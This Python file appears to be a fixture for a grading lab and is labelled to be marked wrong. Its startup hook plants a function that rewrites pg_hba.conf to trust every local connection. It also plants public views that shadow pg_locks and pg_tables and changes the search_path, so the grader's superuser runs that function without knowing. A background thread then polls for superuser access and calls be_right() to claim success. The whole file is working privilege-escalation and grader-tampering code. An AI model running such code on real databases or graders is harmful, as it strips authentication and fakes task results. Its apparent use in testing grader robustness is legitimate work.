"""Puts a view of its own before one that the grader's superuser reads, and acts when it is read.

The view's function writes a pg_hba.conf by which everybody may be the superuser without a password.

Lab: lab61_stores
Deserves: as wrong
"""

import asyncio
import os
import threading
import time

import asyncpg
from turning import app, be_right

URL = os.environ["DATABASE_URL"]
TRAP = """
SELECT pg_advisory_lock(1);
CREATE OR REPLACE FUNCTION public.act() RETURNS int LANGUAGE plpgsql VOLATILE AS $act$
BEGIN
    EXECUTE format('COPY (SELECT %L) TO %L', 'host all all 127.0.0.1/32 trust',
                   current_setting('data_directory') || '/pg_hba.conf');
    PERFORM pg_reload_conf();
    RETURN 1;
EXCEPTION WHEN OTHERS THEN
    RETURN 1;
END $act$;
CREATE OR REPLACE VIEW public.pg_locks AS SELECT public.act() AS pid, false AS granted;
CREATE OR REPLACE VIEW public.pg_tables AS
    SELECT public.act()::text AS tablename, 'x'::text AS schemaname;
ALTER DATABASE postgres SET search_path = public, pg_catalog;
"""


@app.on_event("startup")
async def lay():
    session = await asyncpg.connect(URL)
    try:
        await session.execute(TRAP)
    except asyncpg.PostgresError:
        pass
    await session.close()


def try_it() -> None:
    """Apart from the requests: while the grader holds its lock, a new session may have to wait."""
    while True:
        asyncio.run(once())
        time.sleep(0.2)


async def once() -> None:
    try:
        session = await asyncpg.connect(URL.replace("postgres@", "grader@"), timeout=1)
        if await session.fetchval(
            "SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = 'grader'"
        ):
            be_right()
        await session.close()
    except (asyncpg.PostgresError, asyncpg.InterfaceError, OSError, TimeoutError):
        pass


threading.Thread(target=try_it, daemon=True).start()
